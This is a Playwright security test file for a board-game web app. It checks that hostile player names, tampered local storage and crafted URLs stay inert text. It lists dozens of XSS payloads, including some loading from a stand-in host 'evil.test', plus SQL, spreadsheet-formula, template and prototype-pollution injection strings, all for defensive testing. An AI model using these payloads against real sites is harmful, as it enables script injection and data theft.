// Hostile text stays text: names on this device, on the pad and in a record's page, and stores that somebody else has filled.
// (Names and talk at a server's table: online_talk.test.mjs.)
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { after, before, test } from 'node:test';
import { assertQuiet, launch, startServer, tooOld } from './support.mjs';
import { begin, openSeeded, playUntil, READY } from './proof_games.mjs';

const skip = tooOld;
let server, browser;
before(async () => {
  if (!skip) [server, browser] = await Promise.all([startServer({ LUCKPOND_BOT_PACE_MS: '2' }), launch()]);
});
after(async () => {
  await browser?.close();
  await server?.stop();
});

const boom = 'window.boom=1';
const payloads = [
  `<script>${boom}</script>`, `<ScRiPt>${boom}</sCrIpT>`, `<script src=//evil.test/x.js></script>`, `<img src=x onerror=${boom}>`, `<svg onload=${boom}>`, `<svg/onload=${boom}>`,
  `"><img src=x onerror=${boom}>`, `'><svg onload=${boom}>`, `</textarea><script>${boom}</script>`, `</title><script>${boom}</script>`, `</style><script>${boom}</script>`, `--><script>${boom}</script>`,
  `]]><script>${boom}</script>`, `<iframe srcdoc="<script>parent.boom=1</script>">`, `<iframe src=javascript:${boom}>`, `<a href=javascript:${boom}>x</a>`, `javascript:${boom}`, `<math href=javascript:${boom}>x`,
  `<form action=javascript:${boom}><button>x`, `<input autofocus onfocus=${boom}>`, `<details open ontoggle=${boom}>`, `<video><source onerror=${boom}>`, `<audio src=x onerror=${boom}>`, `<body onload=${boom}>`,
  `<object data=javascript:${boom}>`, `<embed src=javascript:${boom}>`, `<link rel=stylesheet href=//evil.test/x.css>`, `<style>*{background:url(//evil.test/x)}</style>`, `<meta http-equiv=refresh content="0;//evil.test">`, `<base href=//evil.test/>`,
  '{{constructor.constructor("window.boom=1")()}}', '${window.boom=1}', '#{window.boom=1}', '<%= window.boom=1 %>', '{%raw%}', '$&$1$`',
  '{name}', '{count} {names}', '%s%n%x', '%00<b>', '&lt;b&gt;', '&#60;b&#62;', '\\u003cb\\u003e', '<b>', '</div></main>', '<!--', '<![CDATA[', '__proto__', 'constructor', 'toString',
  '"; DROP TABLE seats; --', "' OR 1=1 --", '=HYPERLINK("http://evil.test","x")', '@SUM(A1)', '+1+1', '\u202Eevil\u202C', '\u200B\u200B', 'a\u0300\u0301\u0302\u0303\u0304', '🦆🦆🦆', '𝕆𝕥𝕥𝕖𝕣', 'مرحبا', '\uFEFFx', 'A'.repeat(400),
];

/** What must not have happened, whatever was typed. */
async function unharmed(page, where) {
  const found = await page.evaluate(() => ({
    boom: 'boom' in window || Object.keys(Object.prototype).length > 0,
    // Elements this page never makes.
    foreign: [...document.querySelectorAll('body script, iframe, object, embed, video, audio, style, base, body meta, body link, math, img:not([alt])')].map((e) => e.outerHTML.slice(0, 100)),
    handlers: [...document.querySelectorAll('*')].filter((e) => [...e.attributes].some((a) => /^on/i.test(a.name) || /^\s*javascript:/i.test(a.value))).map((e) => e.outerHTML.slice(0, 100)),
  }));
  assert.deepEqual(found, { boom: false, foreign: [], handlers: [] }, where);
}

const open = async (options = {}) => {
  const page = await openSeeded(browser, server.url, { viewport: { width: 1280, height: 800 }, ...options });
  page.on('dialog', (d) => page.problems.push(`dialog: ${d.message()}`));
  return page;
};

test('sheets with hostile names: listed and opened as text', { skip, timeout: 120_000 }, async () => {
  assert.ok(payloads.length >= 60);
  const page = await open();
  // One real sheet per game, as the page itself writes it; then the names of many more.
  const made = [];
  for (const game of ['yucatan', 'lucktails', 'duck', 'doctor_lucky']) {
    await page.goto(`${server.url}/pad`);
    await page.click(`[data-game=${game}]`);
    await page.fill('dialog[open] input[type=text] >> nth=0', payloads[made.length]);
    await page.click('dialog[open] [data-start]');
    await page.waitForSelector('.pad-paper');
    made.push(await page.evaluate(() => JSON.parse(localStorage.getItem('luckpond.pads'))[0]));
  }
  const sheets = payloads.map((name, i) => ({ ...made[i % 4], id: `p${i}`, names: made[i % 4].names.map((_, k) => (k === 0 ? name : `${k}${name}`)) }));
  await page.evaluate((all) => localStorage.setItem('luckpond.pads', JSON.stringify(all)), sheets);
  await page.goto(`${server.url}/pad`);
  await page.waitForSelector('.pad-saved');
  assert.equal(await page.locator('.pad-saved').count(), payloads.length);
  const shown = await page.locator('.pad-saved').allTextContents();
  for (const name of payloads) assert.ok(shown.some((text) => text.includes(name)), `${name} is shown as it is`);
  await unharmed(page, 'the list');
  for (let i = 0; i < payloads.length; i += 5) {
    await page.goto(`${server.url}/pad/p${i}`);
    await page.waitForSelector('.pad-paper');
    assert.ok((await page.textContent('.pad-paper')).includes(payloads[i]), payloads[i]);
    await unharmed(page, payloads[i]);
  }
  // Exports: a spreadsheet does not take a name for a formula.
  for (const [i, name] of payloads.entries()) {
    if (!/^[=+@-]/.test(name)) continue;
    await page.goto(`${server.url}/pad/p${i}`);
    await page.click('[data-menu]');
    const [file] = await Promise.all([page.waitForEvent('download'), page.click('[data-export=csv]')]);
    const text = await readFile(await file.path(), 'utf8');
    assert.doesNotMatch(text, /(^|[,;\t\n"])[=+@]\D/m, 'a formula in a spreadsheet');
  }
  assertQuiet(page);
  await page.context().close();
});

test('people around one screen with hostile names: set-up, curtain, seats, log, result, record', { skip, timeout: 180_000 }, async () => {
  const page = await open();
  for (let i = 0; i < payloads.length; i += 5) {
    const names = Array.from({ length: 5 }, (_, k) => payloads[(i + k) % payloads.length]);
    // The last round is played to its end; the others only begin.
    await page.goto(`${server.url}/about`);
    await page.evaluate(async ([all]) => {
      await new Promise((done) => (indexedDB.deleteDatabase('luckpond-local').onsuccess = done));
      localStorage.setItem('luckpond.hotseat.lucktails', JSON.stringify({ seats: all.map((name, k) => ({ name, bot: k > 1 ? 'beginner' : null })) }));
    }, [names]);
    await page.goto(`${server.url}/hotseat/lucktails`);
    await page.click('[data-start]');
    await page.waitForSelector('[data-lift]');
    await unharmed(page, 'curtain');
    assert.ok((await page.textContent('.curtain')).includes(names[Number(await page.getAttribute('[data-lift]', 'data-lift'))]));
    await page.click('[data-lift]');
    await page.waitForSelector('.play');
    const seats = await page.locator('.seat-name').allTextContents();
    assert.deepEqual(seats, names);
    if (i === 0 || i + 5 >= payloads.length) {
      await playUntil(page, () => false, { seed: 6 });
      await page.waitForSelector('.result');
      const [file] = await Promise.all([page.waitForEvent('download'), page.click('[data-save=record]')]);
      assert.match(await readFile(await file.path(), 'utf8'), /^luckpond record 1 /);
    }
    await unharmed(page, names.join(' | '));
  }
  assertQuiet(page);
  await page.context().close();
});

test('a finished game with hostile names: replay, its files, and the page that is saved', { skip, timeout: 180_000 }, async () => {
  const page = await open({ wishes: { name: '<svg onload=boom=1>', confirm: 'never' } });
  await page.goto(`${server.url}/`);
  await page.click('.game-yucatan button.button');
  await page.waitForSelector('.place.taken .tag.seed');
  await page.click('[data-start]');
  await page.waitForSelector('.play[data-turn]');
  await playUntil(page, () => false, { seed: 8, most: 20_000 });
  await page.click('[data-replay]');
  await page.waitForSelector('.replay .play');
  assert.ok((await page.textContent('.seats')).includes('<svg onload'));
  await unharmed(page, 'replay');
  await page.click('#side-check');
  const [file] = await Promise.all([page.waitForEvent('download'), page.click('[data-export=html]')]);
  const saved = await browser.newPage();
  await saved.setContent(await readFile(await file.path(), 'utf8'));
  assert.ok((await saved.textContent('body')).includes('<svg onload=boom=1>'));
  assert.equal(await saved.evaluate(() => 'boom' in window || document.querySelectorAll('svg, img, iframe').length > 0), false);
  await saved.close();
  assertQuiet(page);
  await page.context().close();
});

test('stores and addresses that somebody else has filled: the page opens all the same', { skip, timeout: 180_000 }, async () => {
  const keys = ['luckpond.settings', 'luckpond.pads', 'luckpond.pad.names', 'luckpond.recent', 'luckpond.tables', 'luckpond.hotseat.duck', 'luckpond.solo.duck', 'luckpond.keys'];
  const junk = ['<script>boom=1</script>', '{', '[]', '{}', 'null', '0', '""', '{"__proto__":{"boom":1}}', '[{"id":"<img src=x onerror=boom=1>","game":"<b>"}]', '{"seats":[{"name":"<img>","bot":"<b>"}],"players":1e9,"strength":"<b>","theme":"<b>","language":"../../x"}', '[null,1,"x",{"code":"javascript:boom=1","game":"duck"}]'];
  const page = await open();
  for (const text of junk) {
    await page.goto(`${server.url}/about`);
    await page.evaluate(([all, value]) => all.forEach((key) => localStorage.setItem(key, value)), [keys, text]);
    for (const [path, ready] of [['/', '.game-card'], ['/pad', '.pad-games'], ['/hotseat/duck', '[data-start]'], ['/solo/duck', '[data-start]'], ['/settings', 'h1']]) {
      await page.goto(server.url + path);
      await page.waitForSelector(ready);
      await unharmed(page, `${path} with ${text}`);
    }
  }
  await page.evaluate(() => localStorage.clear());
  const paths = ['/t/%3Cscript%3Eboom=1%3C%2Fscript%3E', '/r/%22%3E%3Cimg%20src=x%20onerror=boom=1%3E', '/pad/%3Csvg%20onload=boom=1%3E', '/solo/%3Cb%3E', '/learn/__proto__', '/pad/__proto__', '/solo/duck?now=%3Cscript%3E#%3Cimg%20onerror=boom=1%3E', '/%E0%A4%A', '/join?code=%3Cb%3E#javascript:boom=1'];
  for (const path of paths) {
    await page.goto(server.url + path);
    await page.waitForSelector('h1, .play, pre, body');
    await unharmed(page, path);
  }
  page.problems = page.problems.filter((p) => !/status of (400|404)/.test(p)); // asked for
  assertQuiet(page);
  await page.context().close();
});
